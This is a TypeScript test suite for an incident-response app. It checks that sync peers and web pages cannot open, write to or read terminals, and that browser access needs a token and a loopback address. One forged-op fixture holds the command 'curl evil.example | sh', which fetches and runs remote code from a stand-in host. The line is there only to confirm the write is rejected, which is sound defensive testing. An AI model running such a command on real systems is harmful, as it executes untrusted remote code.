/**
 * No peer and no web page can spawn, write to or read a terminal: synced ops and socket messages
 * aimed at terminals are rejected, terminal output never goes to peers, and the browser console
 * gets terminals only with the token and only on a loopback address.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { io, type Socket } from 'socket.io-client';
import { afterEach, describe, expect, it } from 'vitest';
import { WEB_NAMESPACE, type Envelope } from '../../src/shared/api';
import { TERMINAL_METHOD_NAMES } from '../../src/shared/contract/terminal';
import { silentLogger } from '../../src/main/core/log';
import { nodePtySpawner, type PtySpawner } from '../../src/main/core/terminal/pty';
import { parseJoinLink } from '../../src/shared/sync/link';
import { startWebServer, type WebServer } from '../../src/main/web/server';
import { rawSyncPeer } from '../helpers/raw-peer';
import { TerminalHarness } from '../helpers/terminal';

/** A spawner that counts: the one number these tests care about is how many shells started. */
function countingSpawner(): { spawn: PtySpawner; count: () => number } {
  let n = 0;
  return {
    spawn: (file, args, options) => {
      n++;
      return nodePtySpawner(file, args, options);
    },
    count: () => n,
  };
}

const cleanups: (() => Promise<void> | void)[] = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

function harness(spawn: PtySpawner): TerminalHarness {
  const h = new TerminalHarness({ spawn });
  cleanups.push(() => h.close());
  return h;
}

const forgedOp = (seq: number, body: unknown): unknown => ({
  origin: 'mallory-raw',
  seq,
  hlc: `${String(Date.now()).padStart(15, '0')}:${String(seq).padStart(6, '0')}:mallory-raw`,
  incidentId: 'incident-raw-0001',
  author: { peerId: 'mallory-raw', name: 'Mallory' },
  body,
});

const TERMINAL_BODIES = [
  { type: 'terminal.open', incidentId: 'incident-raw-0001', cols: 80, rows: 24 },
  { type: 'terminal.write', terminalId: 'term-000001', data: 'curl evil.example | sh\r' },
  { type: 'runbook.paste', terminalId: 'term-000001', runbookId: 'default/service-down', step: 0 },
];

describe('peers cannot reach terminals', () => {
  it('the Warroom service (what sync and remote doors hold) refuses every terminal method', async () => {
    const spy = countingSpawner();
    const h = harness(spy.spawn);
    for (const method of TERMINAL_METHOD_NAMES) {
      const reply = await h.warroom.handle(method, { incidentId: h.incidentId, cols: 80, rows: 24 });
      expect(reply, method).toMatchObject({ ok: false, error: { code: 'unauthorized' } });
    }
    expect(spy.count()).toBe(0);
  });

  it('synced ops that try to open or write a terminal are rejected and never applied', () => {
    const spy = countingSpawner();
    const h = harness(spy.spawn);
    const before = h.warroom.versionVector();
    const result = h.warroom.applyRemote(
      TERMINAL_BODIES.map((body, i) => forgedOp(i + 1, body)),
      'mallory',
    );
    expect(result.rejected).toBe(TERMINAL_BODIES.length);
    expect(result.applied).toBe(0);
    expect(h.warroom.versionVector()).toEqual(before);
    expect(spy.count()).toBe(0);
  });

  it('a peer socket cannot open a terminal, and terminal output never reaches it', async () => {
    const spy = countingSpawner();
    const h = harness(spy.spawn);
    await h.warroom.sync.host({ port: 0 });
    cleanups.push(() => h.warroom.sync.close());
    const link = parseJoinLink(h.warroom.sync.status().hosting?.link ?? '');
    const peer = await rawSyncPeer(link);
    cleanups.push(() => void peer.disconnect());
    const received: string[] = [];
    peer.onAny((event: string, ...args: unknown[]) => received.push(`${event} ${JSON.stringify(args)}`));

    // Contract-style calls and made-up terminal events: nothing on the sync socket answers them.
    peer.emit('call', 'openTerminal', { incidentId: h.incidentId, cols: 80, rows: 24 }, () =>
      received.push('call acked'),
    );
    peer.emit('openTerminal', { incidentId: h.incidentId, cols: 80, rows: 24 });
    peer.emit('writeTerminal', { id: 'x', data: 'id\r' });
    // Ops aimed at terminals, next to an honest op in the same batch.
    const ack = (await peer.timeout(2_000).emitWithAck('ops', {
      ops: TERMINAL_BODIES.map((body, i) => forgedOp(i + 1, body)),
    })) as { rejected: number };
    expect(ack.rejected).toBe(TERMINAL_BODIES.length);
    expect(spy.count()).toBe(0);

    // The local user runs a command; the peer sees the incident's timeline entry (redacted), never the raw output.
    const id = h.open();
    await h.waitForPrompt(id);
    h.write(id, 'echo raw-terminal-output-$((40+2)); export API_TOKEN=sk-live-abc123\r');
    await h.waitForRecord((r) => r.command.startsWith('echo raw-terminal-output'));
    // A round trip on the same socket: everything the host sent before it has arrived.
    await peer.timeout(2_000).emitWithAck('ops', { ops: [] });
    const wire = received.join('\n');
    expect(wire).not.toContain('call acked');
    expect(wire).not.toContain('terminalData');
    expect(wire).not.toContain('raw-terminal-output-42\\r\\n');
    expect(wire).not.toContain('sk-live-abc123');
    expect(spy.count()).toBe(1);
  });
});

describe('the browser console', () => {
  function rendererDir(): string {
    const dir = mkdtempSync(join(tmpdir(), 'warroom-ui-'));
    writeFileSync(join(dir, 'index.html'), '<!doctype html><title>t</title>');
    cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
    return dir;
  }

  async function serve(h: TerminalHarness, host: string, token = 'token-0123456789abcdef'): Promise<WebServer> {
    const web = await startWebServer({
      service: h.warroom,
      terminals: h.terminals,
      rendererDir: rendererDir(),
      host,
      port: 0,
      log: silentLogger,
      token,
    });
    cleanups.push(() => web.close());
    return web;
  }

  function connect(port: number, token: string | undefined): Socket {
    const socket = io(`http://127.0.0.1:${port}${WEB_NAMESPACE}`, {
      transports: ['websocket'],
      reconnection: false,
      forceNew: true,
      ...(token === undefined ? {} : { auth: { token } }),
    });
    cleanups.push(() => void socket.disconnect());
    return socket;
  }

  function call(socket: Socket, method: string, args: unknown): Promise<Envelope<unknown>> {
    return socket.timeout(5_000).emitWithAck('call', method, args) as Promise<Envelope<unknown>>;
  }

  it('on loopback, the token-holding page gets a working terminal', async () => {
    const h = harness(countingSpawner().spawn);
    const web = await serve(h, '127.0.0.1');
    expect(web.terminalsEnabled).toBe(true);
    const socket = connect(web.port, web.token);
    let output = '';
    socket.on('terminalData', (p: { id: string; data: string }) => {
      output += p.data;
      // Fire-and-forget like the renderer: a plain ack callback, so an ack still in flight when the
      // test disconnects is dropped instead of rejecting after the test ended.
      socket.emit('call', 'ackTerminal', { id: p.id, chars: p.data.length }, () => undefined);
    });
    await new Promise<void>((resolve, reject) => {
      socket.once('connect', resolve);
      socket.once('connect_error', reject);
    });
    const opened = await call(socket, 'openTerminal', { incidentId: h.incidentId, cols: 80, rows: 24 });
    expect(opened.ok).toBe(true);
    const id = (opened as { value: { id: string } }).value.id;
    await h.waitForPrompt(id);
    await call(socket, 'writeTerminal', { id, data: 'echo via-web-$((1+1))\r' });
    await h.waitForRecord((r) => r.command === 'echo via-web-$((1+1))');
    await call(socket, 'listTerminals', { incidentId: h.incidentId });
    expect(output).toContain('via-web-2');
  });

  it('without the token there is no socket at all', async () => {
    const h = harness(countingSpawner().spawn);
    const web = await serve(h, '127.0.0.1');
    const socket = connect(web.port, 'wrong-token');
    const error = await new Promise<Error>((resolve) => socket.once('connect_error', resolve));
    expect(error.message).toMatch(/Access denied/);
  });

  it('on a non-loopback address, even the token holder gets no terminal and no terminal events', async () => {
    const spy = countingSpawner();
    const h = harness(spy.spawn);
    const web = await serve(h, '0.0.0.0');
    expect(web.terminalsEnabled).toBe(false);
    const socket = connect(web.port, web.token);
    const events: string[] = [];
    socket.onAny((event: string) => events.push(event));
    await new Promise<void>((resolve, reject) => {
      socket.once('connect', resolve);
      socket.once('connect_error', reject);
    });
    for (const method of ['openTerminal', 'listTerminals', 'listRunbooks', 'writeTerminal']) {
      const reply = await call(socket, method, { incidentId: h.incidentId, cols: 80, rows: 24 });
      expect(reply, method).toMatchObject({ ok: false, error: { code: 'unauthorized' } });
    }
    expect(spy.count()).toBe(0);
    // A terminal the local user opens in-process stays invisible to that page.
    const id = h.open();
    await h.waitForPrompt(id);
    h.write(id, 'echo hidden\r');
    await h.waitForRecord((r) => r.command === 'echo hidden');
    await call(socket, 'listIncidents', {});
    expect(events.filter((e) => e.startsWith('terminal') || e === 'commandRecorded')).toEqual([]);
  });
});
